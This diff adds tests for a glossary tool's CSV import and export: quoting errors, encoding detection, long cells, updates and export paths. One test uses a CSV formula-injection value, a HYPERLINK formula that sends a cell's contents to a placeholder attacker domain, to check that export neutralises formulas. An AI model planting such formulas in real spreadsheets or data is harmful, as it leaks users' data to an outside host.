@@ -336,6 +336,37 @@ BAD_CSV = {
         "row 3: text in a column without a name in row 1",
         "",
     ),
+    "quote never closed": (
+        f'{HEADER}\nFresh Term,finance,"never closed,{MISUSE},2026-01-01\n',
+        "row 2, column definition: the quote that opens this cell (line 2) is never closed",
+        'write a quote inside a cell as ""',
+    ),
+    "quote not closed before the next rows, which it swallowed": (
+        f'{HEADER},conclusion\nOne Fee,finance,D.,M.,2026-01-01,"Avoid it.\n'
+        f'Two Fee,finance,D.,M.,2026-01-01,\nThree Fee,finance,D.,M.,2026-01-01,"Skip it."\n',
+        "row 2, column conclusion: the quote that opens this cell (line 2) is not closed before line 4",
+        "so the rows between were read into it",
+    ),
+    "quote inside a quoted cell": (
+        f'{HEADER}\nFresh Term,finance,"A 5" charge.",{MISUSE},2026-01-01\n',
+        "row 2, column definition: a quote inside this quoted cell (line 2) must be written twice",
+        "",
+    ),
+    "categories separated by commas": (
+        csv_row(categories="finance, insurance"),
+        "row 2, column categories: separate the items with ';'",
+        "",
+    ),
+    "examples some of which are list items": (
+        csv_row(examples="-5% off is the usual discount.\n- or so the bank says\nA second example."),
+        "row 2, column examples: some lines are list items ('- ...') and some are not",
+        "",
+    ),
+    "context with curly quotes": (
+        csv_row(context="{\u201cnot\u201d: [\u201cfresh term paper\u201d]}"),
+        "row 2, column context: not JSON: ",
+        "its quotes are curly ones",
+    ),
     "not CSV": ('{"title": "x"}\n', "not a CSV file of terms", ""),
     "empty": ("", "empty file", ""),
     "no rows": (HEADER + "\n", "no terms: the file has no rows", ""),
@@ -471,6 +502,58 @@ def test_undecodable_bytes_are_reported_at_their_row_and_column(
     assert files(starter) == before
 
 
+def test_a_value_of_the_wrong_kind_is_one_problem(starter: Path, tmp_path: Path) -> None:
+    """Not also "empty title" or "missing date": the value is there, of the wrong kind."""
+    row = {"slug": "five", "title": 5, "categories": ["finance"], "definition": "D.", "misuse": "M.", "updated": True}
+    source = write(tmp_path / "kinds.json", json.dumps([row]))
+
+    code, _, err = run("import", str(source), "--data", str(starter))
+
+    assert code == 1
+    assert err.splitlines() == [
+        f"{source}: row 1, column title: must be text, not a number",
+        f"{source}: row 1, column updated: must be text, not true or false",
+        f"2 errors in {source}; nothing was written",
+    ]
+
+
+def test_every_cell_that_is_not_utf8_is_reported(starter: Path, tmp_path: Path) -> None:
+    """A file saved as Windows-1252 has such bytes in many cells: each is named, not the first."""
+    source = tmp_path / "cp1252.csv"
+    rows = f"Fee One,finance,A fee \u2013 in short.,{MISUSE},2026-01-01\nFee Two,finance,D.,Caf\xe9.,2026-01-01\n"
+    source.write_bytes(f"{HEADER}\n{rows}".encode("cp1252"))
+
+    code, _, err = run("import", str(source), "--data", str(starter))
+
+    advice = "save the file as UTF-8 (in a spreadsheet: CSV UTF-8)"
+    assert code == 1
+    assert err.splitlines()[:2] == [
+        f"{source}: row 2, column definition: not UTF-8 text (byte 0x96); {advice}",
+        f"{source}: row 3, column misuse: not UTF-8 text (byte 0xe9); {advice}",
+    ]
+
+
+def test_a_utf16_file_is_named_as_such(starter: Path, tmp_path: Path) -> None:
+    """Excel's "Unicode Text" is UTF-16: one message for the file, not one for its first byte."""
+    source = tmp_path / "unicode.txt"
+    source.write_bytes(csv_row().replace(",", "\t").encode("utf-16"))
+
+    code, _, err = run("import", str(source), "--format", "csv", "--data", str(starter))
+
+    assert code == 1
+    assert err.startswith(f"{source}: UTF-16 text, not UTF-8; save the file as UTF-8")
+
+
+def test_a_cell_longer_than_csvs_own_limit_is_read(starter: Path, tmp_path: Path) -> None:
+    long = "A long definition. " * 10_000  # 190,000 characters; Python's csv stops at 131,072
+    source = write(tmp_path / "long.csv", csv_row(definition=long))
+
+    code, _, err = run("import", str(source), "--data", str(starter))
+
+    assert code == 0, err
+    assert load_glossary(starter).term("fresh-term").sections["Definition"] == long.strip()
+
+
 def test_every_problem_is_reported_at_once(starter: Path, tmp_path: Path) -> None:
     source = write(
         tmp_path / "bad.csv",
@@ -524,3 +607,75 @@ def test_no_glossary_folder_is_said_as_other_commands_say_it(tmp_path: Path) -> 
 
     assert code == 1
     assert "no glossary:" in err and "--data DIR" in err
+
+
+# ---- Formulas, updates and where export writes ---------------------------------------------
+
+
+def test_cells_a_spreadsheet_would_take_for_formulas_are_exported_as_text(starter: Path, tmp_path: Path) -> None:
+    """A cell starting with = + - or @ is a formula to a spreadsheet (a nested Examples list
+    would be #NAME?, a definition a live link): export puts a ' before it, as OWASP advises,
+    which spreadsheets show as text, and import takes it off again."""
+    rows = [
+        {
+            "title": "Fresh Term",
+            "categories": ["finance"],
+            "definition": '=HYPERLINK("https://evil.example/?x="&A2,"source")',
+            "examples": "- first example\n  - a nested detail",
+            "misuse": "+1 555 0100 is the number to call.",
+            "conclusion": "'Tis a fee like any other.",
+            "updated": "2026-01-01",
+        }
+    ]
+    code, _, err = run("import", str(write(tmp_path / "in.json", json.dumps(rows))), "--data", str(starter))
+    assert code == 0, err
+
+    exported = run_bytes("export", "--data", str(starter)).decode("utf-8-sig")
+
+    header, *rows = csv.reader(io.StringIO(exported))
+    cells = dict(zip(header, next(row for row in rows if "Fresh Term" in row), strict=True))
+    assert cells["definition"] == "'" + '=HYPERLINK("https://evil.example/?x="&A2,"source")'
+    assert cells["examples"] == "'- first example\n  - a nested detail"
+    assert cells["misuse"] == "'+1 555 0100 is the number to call."
+    assert cells["conclusion"] == "'Tis a fee like any other."  # not a formula: as it is
+    assert "'=HYPERLINK" not in run_bytes("export", "--format", "json", "--data", str(starter)).decode()
+    again = tmp_path / "again"
+    shutil.copytree(starter, again)
+    shutil.rmtree(again / "terms")
+    (again / "terms").mkdir()
+    code, _, err = run("import", str(write(tmp_path / "out.csv", exported)), "--data", str(again))
+    assert code == 0, err
+    assert equal_terms(load_glossary(again).terms, load_glossary(starter).terms)
+
+
+def test_update_with_an_export_rewrites_only_the_edited_terms(tmp_path: Path) -> None:
+    """Export, edit a row in the spreadsheet, import with --update: only that file is written,
+    and the editor is told that its comments (which no row holds) are gone."""
+    data = tmp_path / "glossary"
+    shutil.copytree(GLOSSARY_DATA, data)
+    before = files(data)
+    exported = run_bytes("export", "--data", str(data)).decode("utf-8-sig")
+    source = write(tmp_path / "all.csv", exported)
+
+    code, out, err = run("import", str(source), "--data", str(data), "--update")
+
+    count = len(load_glossary(data).terms)
+    assert (code, err) == (0, "")
+    assert out == f"Imported 0 terms into {data / 'terms'}: 0 new, 0 updated, {count} unchanged\n"
+    assert files(data) == before
+
+    edited = write(tmp_path / "edited.csv", exported.replace("A premium is the price", "A premium is the sum"))
+    code, out, err = run("import", str(edited), "--data", str(data), "--update")
+
+    assert code == 0, err
+    assert out.endswith(f": 0 new, 1 updated, {count - 1} unchanged\n")
+    assert err == "note: terms/premium.md was rewritten from its row; the comments it had are gone\n"
+    changed = {name for name, body in files(data).items() if before.get(name) != body}
+    assert changed == {"terms/premium.md"}
+
+
+def test_export_into_a_folder_that_does_not_exist_is_an_error(tmp_path: Path) -> None:
+    code, _, err = run("export", "--data", str(GLOSSARY_DATA), "-o", str(tmp_path / "no" / "terms.csv"))
+
+    assert code == 1
+    assert err == f"Error: cannot write {tmp_path / 'no' / 'terms.csv'}: No such file or directory\n"
